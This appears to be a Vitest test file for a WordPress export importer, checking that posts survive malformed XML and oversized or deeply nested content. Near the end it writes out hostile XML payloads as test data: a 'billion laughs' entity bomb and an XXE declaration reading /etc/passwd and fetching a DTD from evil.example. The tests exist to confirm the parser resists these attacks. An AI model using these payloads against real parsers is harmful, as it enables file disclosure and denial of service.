import { describe, expect, it } from 'vitest';
import { readWordpress } from '../../../../api/imports/formats/wordpress.ts';
import { readImport } from '../../../support/archives.ts';
import { item, wxr } from '../../../support/wordpress-exports.ts';

const readFile = (file: string) => readImport(readWordpress, file);
const read = (...items: string[]) => readFile(wxr(...items));
const titles = (reading: { posts: { title: string }[] }) => reading.posts.map((post) => post.title);

describe('a broken export', () => {
  it('keeps a post with an unclosed tag', async () => {
    const two = item(2, 'Two', { extra: '<wp:broken><b>no end</wp:broken>' });
    const reading = await read(item(1, 'One'), two, item(3, 'Three'));
    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
    expect(reading.posts[1]?.content).toBe('<p>Text</p>');
    expect(reading.problems).toEqual([]);
  });

  it.each([1, 3])('keeps every post when item %i is not closed', async (open) => {
    const items = ['One', 'Two', 'Three'].map((title, index) => item(index + 1, title));
    items[open - 1] = items[open - 1]?.replace('</item>', '') ?? '';
    const reading = await read(...items);
    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
    expect(reading.problems).toEqual([]);
  });

  it('loses only the post whose CDATA section runs into the next one', async () => {
    const reading = await read(
      item(1, 'One'),
      item(2, 'Two').replace(']]></content:encoded>', '</content:encoded>'),
      item(3, 'Three'),
    );
    expect(titles(reading)).toEqual(['One', 'Three']);
    expect(reading.problems).toEqual([
      expect.stringContaining('The article “Two” has a text (CDATA) that is never closed; it is left out'),
    ]);
  });

  it.each([
    ['inside a tag', 40],
    ['right after a post', 0],
  ])('keeps the posts before the end of a file cut off %s', async (_where, back) => {
    const whole = wxr(item(1, 'One'), item(2, 'Two'));
    const end = whole.lastIndexOf('</item>') + (back === 0 ? 7 : -back);
    const reading = await readFile(whole.slice(0, end));
    expect(titles(reading)).toEqual(back === 0 ? ['One', 'Two'] : ['One']);
    expect(reading.problems).toEqual([expect.stringMatching(/the file ends .+ to have the rest\.$/i)]);
  });

  it('loses only the posts with too many or too deeply nested elements', async () => {
    const reading = await read(
      item(1, 'One', { extra: '<a>'.repeat(500_000) + '</a>'.repeat(500_000) }),
      item(2, 'Two', { extra: '<a/>'.repeat(500_000) }),
      item(3, 'Three'),
    );
    expect(titles(reading)).toEqual(['Three']);
    expect(reading.problems).toEqual([
      'The article “One” has elements nested more than 1,000 deep; it is left out, and reading went on with the next one.',
      'The article “Two” has more than 500,000 elements; it is left out, and reading went on with the next one.',
    ]);
  });

  it('loses only the post over the size limit and reports the limit', async () => {
    const giant = item(2, 'Giant', { content: 'x'.repeat(21 * 1024 * 1024) });
    const reading = await read(item(1, 'One'), giant, item(3, 'Three'));
    expect(titles(reading)).toEqual(['One', 'Three']);
    expect(reading.problems).toEqual([expect.stringMatching(/“Giant” has more than 20 MB/)]);
  });
});

describe('the lenient XML reader', () => {
  it('keeps stray ampersands and angle brackets, and drops control characters', async () => {
    const { posts, problems } = await read(
      item(1, 'x', {
        title: '<title>Fish & chips &nbsp;&amp;amp; 1 < 2 &copy; \u0003&#8211; &#x1F600; &#11;end</title>',
        content: 'a\u0008b\u000bc',
        link: 'https://blog.example/?a=1&b=2',
      }),
    );
    const url = 'https://blog.example/?a=1&b=2';
    expect(posts[0]).toMatchObject({ title: 'Fish & chips & 1 < 2 © – 😀 end', content: 'abc', url });
    expect(problems).toEqual([]);
  });

  it.each(['<pre>a[b[0]]></pre><p>more]]> text</p>', 'x ]]> y'])(
    'keeps an unescaped CDATA terminator as text, as old exporters write it: %s',
    async (content) => {
      const { posts, problems } = await read(item(1, 'x', { content }), item(2, 'y'));
      expect(posts.map((post) => post.content)).toEqual([content, '<p>Text</p>']);
      expect(problems).toEqual([]);
    },
  );

  it('ignores PHP warnings before the root and text after it', async () => {
    const warning = '<br />\n<b>Warning</b>: Cannot modify header <i>x</i>';
    const reading = await readFile(`\n${warning}\n${wxr(item(1, 'One'))}\n<p>done & dusted`);
    expect(titles(reading)).toEqual(['One']);
    expect(reading.problems).toEqual([]);
  });
});

const LEVELS = Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`);

it.each([
  ['lol9', `<!DOCTYPE rss [\n<!ENTITY lol "lol">\n${LEVELS.join('\n')}\n]>`],
  [
    'xxe',
    '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  ],
])(
  'the XML parser leaves an entity bomb unexpanded, and reads no file for an external entity: %s',
  async (name, declared) => {
    const file = wxr(item(1, 'x', { title: `<title>Big &${name}; bang</title>` }));
    const reading = await readFile(file.replace('<rss', `${declared}\n<rss`));
    expect(titles(reading)).toEqual([`Big &${name}; bang`]);
    expect(reading.problems).toEqual([]);
  },
);

it.each([
  ['sections that never end', '<item><x><![CDATA[aaaa</item>\n'],
  ['comments that never end', '<item><!-- aaa</item>\n'],
])('a hostile file with %s costs what it holds', async (_what, part) => {
  const reading = await read(item(1, 'One'), part.repeat(200_000));
  expect(titles(reading)).toEqual(['One']);
  expect(reading.problems.length).toBeGreaterThan(0);
});
